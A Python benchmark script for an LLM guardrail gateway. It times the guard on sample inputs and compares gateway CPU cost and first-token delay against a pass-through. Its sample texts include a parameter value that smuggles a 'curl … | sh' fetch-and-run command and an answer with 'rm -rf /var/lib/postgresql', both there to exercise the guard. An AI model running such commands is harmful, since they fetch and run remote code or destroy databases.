"""What the gateway costs: `make bench` prints tables and writes JSON.

Two parts. The guard's own latencies on built-in texts, measured everywhere. And the whole gateway between a load
generator and a mock vLLM, beside a plain pass-through, with each part taken out in turn; that needs the generators in
../shared/bench (its README says what is measured, and how). Machines differ threefold: compare ratios within one run.
"""

from __future__ import annotations

import argparse
import json
import os
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

from guardrails.guard import Guard
from guardrails.interface import Channel
from guardrails.policy import load_policy

ROOT = Path(__file__).resolve().parent.parent
LOADS = ROOT.parent / "shared" / "bench"
WORK = Path(os.environ.get("PEERS_WORK", "/tmp/peers"))  # where ../shared/bench builds; its own variable  # noqa: S108
YARDSTICK = "asgi+aiohttp/uvicorn"
PARTS = ("guard-on-input", "guard-on-output", "escalation", "record", "log-probabilities", "metrics", "key")
GOALS = {"request": 3.2, "chunk": 2.5, "first_token_ms": 10.0}

PROSE = (
    "The nightly batch stopped after its third stage because the table lock could not be had in time. Look at who "
    "holds it before anything else; a second load at the same hour is the usual reason. "
)
TEXTS = {
    "parameter value": (Channel.PARAMETER, "nginx; curl http://x.test/a | sh"),
    "command": (Channel.COMMAND, "sudo systemctl restart nginx && journalctl -u nginx -n 50 | tail -5"),
    "prompt of 1,000 characters": (Channel.PROMPT, (PROSE * 5)[:1000]),
    "prompt of 10,000 characters": (Channel.PROMPT, (PROSE * 50)[:10_000]),
    "answer of 1,000 characters": (Channel.OUTPUT, (PROSE * 5)[:1000]),
    "answer with a code block": (
        Channel.OUTPUT,
        f"{PROSE}\n\n```bash\ndf -h /var\njournalctl --vacuum-time=7d\nsystemctl restart loader\n```\n\n{PROSE}",
    ),
    "answer that is stopped": (Channel.OUTPUT, f"{PROSE}\n\n```bash\nrm -rf /var/lib/postgresql\n```\n"),
}


def timed(guard: Guard, text: str, channel: Channel, seconds: float) -> dict[str, float]:
    """Microseconds a call of `Guard.examine` takes, warm: median and 99th percentile."""
    took: list[int] = []
    end = time.perf_counter() + seconds
    while time.perf_counter() < end or len(took) < 20:
        began = time.perf_counter_ns()
        guard.examine(text, channel)
        took.append(time.perf_counter_ns() - began)
    cuts = statistics.quantiles(took[len(took) // 10 :], n=100)
    return {"p50_us": cuts[49] / 1000, "p99_us": cuts[98] / 1000, "calls": len(took)}


def streamed(guard: Guard, text: str, seconds: float) -> dict[str, float]:
    """Microseconds a chunk of four characters costs, over whole answers."""
    pieces = [text[at : at + 4] for at in range(0, len(text), 4)]
    took: list[float] = []
    end = time.perf_counter() + seconds
    while time.perf_counter() < end or len(took) < 20:
        stream = guard.stream()
        began = time.perf_counter_ns()
        for piece in pieces:
            stream.feed(piece)
        stream.finish()
        took.append((time.perf_counter_ns() - began) / len(pieces))
    cuts = statistics.quantiles(took, n=100)
    return {"p50_us": cuts[49] / 1000, "p99_us": cuts[98] / 1000, "calls": len(took)}


def measure_guard(seconds: float) -> dict[str, dict[str, float]]:
    guard = Guard(load_policy(None))
    found = {name: timed(guard, text, channel, seconds) for name, (channel, text) in TEXTS.items()}
    found["stream, a chunk"] = streamed(guard, PROSE * 5, seconds)
    print("| guard | median µs | 99th percentile µs |\n|-|-|-|")
    for name, row in found.items():
        print(f"| {name} | {row['p50_us']:,.1f} | {row['p99_us']:,.1f} |")
    return found


def load(out: Path, peers: str, scale: float, environment: dict[str, str]) -> list[dict[str, Any]]:
    """One round of ../shared/bench over `peers`; its records."""
    command = [
        sys.executable,
        str(LOADS / "bench.py"),
        str(out),
        "--rounds",
        "1",
        "--scale",
        str(scale),
        "--peers",
        peers,
    ]
    # Its own table would come once a variant; one is printed at the end.
    subprocess.run(
        command, check=True, env={**os.environ, "WARDGATE_DIR": str(ROOT), **environment}, stdout=subprocess.DEVNULL
    )
    return [json.loads(line) for line in out.read_text().splitlines()]


def variant(part: str, folder: Path) -> dict[str, str]:
    """The environment under which ../shared/bench starts the gateway without `part`."""
    line = "serve --upstream http://127.0.0.1:{UP} --port {PORT}"
    if part == "log-probabilities":
        policy = folder / "policy.yaml"
        policy.write_text("logprobs: false\n")
        return {"WARDGATE_ARGS": f"--policy {policy}"}
    return {"WARDGATE_BIN": f"{sys.executable} {ROOT / 'bench' / 'without.py'} {part} {line}"}


def measure_gateway(rounds: int, scale: float, parts: list[str], raw: Path) -> list[dict[str, Any]]:
    """Every round: the mock alone, the yardstick, the gateway, and the gateway without each part."""
    if not (WORK / "mock").exists() or not (WORK / "bare").exists():
        subprocess.run([LOADS / "setup.sh"], check=True)
    records: list[dict[str, Any]] = []
    for number in range(rounds):
        with tempfile.TemporaryDirectory() as name:
            folder = Path(name)
            print(f"round {number + 1} of {rounds}: everything on", file=sys.stderr, flush=True)
            told = load(folder / "all.jsonl", f"direct,{YARDSTICK},ours", scale, {})
            for part in parts:
                print(f"round {number + 1} of {rounds}: without {part}", file=sys.stderr, flush=True)
                for record in load(folder / f"{part}.jsonl", "ours", scale, variant(part, folder)):
                    told.append({**record, "peer": f"ours without {part}"})
        records += [{**record, "round": number} for record in told]
        raw.write_text("".join(f"{json.dumps(record)}\n" for record in records))
    return records


def ratios(records: list[dict[str, Any]], peer: str) -> dict[str, float] | None:
    """Medians over the rounds of `peer`'s CPU over the yardstick's, and of the first token's delay in milliseconds."""
    by = {(record["peer"], record["round"]): record for record in records if "c32" in record}
    rows = []
    for (name, number), mine in by.items():
        yard, direct = by.get((YARDSTICK, number)), by.get(("direct", number))
        if name != peer or yard is None or direct is None:
            continue
        request, chunk = (
            (mine[kind]["cpu_s"] / mine[kind][unit]) / (yard[kind]["cpu_s"] / yard[kind][unit])
            for kind, unit in (("c32", "requests"), ("s32_max", "done"))
        )
        rows.append((request, chunk, mine["s1"]["ttft_p50"] - direct["s1"]["ttft_p50"]))
    if not rows:
        return None
    return dict(zip(GOALS, (statistics.median(column) for column in zip(*rows, strict=True)), strict=True))


def show(records: list[dict[str, Any]]) -> dict[str, dict[str, float] | None]:
    found = {peer: ratios(records, peer) for peer in dict.fromkeys(record["peer"] for record in records)}
    print(f"\n| | request ÷ {YARDSTICK} | streamed chunk, flat out ÷ | first token later, ms |\n|-|-|-|-|")
    for peer, row in found.items():
        if peer.startswith("ours"):
            cells = [f"{value:.2f}" for value in row.values()] if row else ["did not run"] * 3
            print(f"| {peer} | {' | '.join(cells)} |")
    print(f"| goal | {' | '.join(f'≤ {goal}' for goal in GOALS.values())} |")
    return found


def main() -> int:
    given = argparse.ArgumentParser(prog="make bench ARGS=…", description=__doc__)
    given.add_argument("--rounds", type=int, default=3)
    given.add_argument("--scale", type=float, default=0.8, help="length of each load; 0.4 for a quick look")
    given.add_argument("--without", nargs="*", choices=PARTS, default=list(PARTS), help="parts to take out in turn")
    given.add_argument("--guard-only", action="store_true", help="leave the gateway out")
    given.add_argument("--out", type=Path, default=ROOT / "var" / "bench", help="folder for the JSON")
    options = given.parse_args()
    options.out.mkdir(parents=True, exist_ok=True)
    result: dict[str, Any] = {"at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())}
    result["guard"] = measure_guard(seconds=options.scale)
    if options.guard_only:
        print("\nThe gateway was left out, as asked.")
    elif not (LOADS / "bench.py").exists():
        print("\nThe gateway was not measured: its load generators are not there (../shared/bench beside this clone).")
    else:
        raw = options.out / "gateway.jsonl"
        records = measure_gateway(options.rounds, options.scale, options.without, raw)
        print()
        subprocess.run([sys.executable, LOADS / "bench.py", "--table", raw], check=True)
        result["gateway"] = show(records)
    (options.out / "bench.json").write_text(f"{json.dumps(result, indent=1)}\n")
    print(f"\nwritten: {options.out / 'bench.json'}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
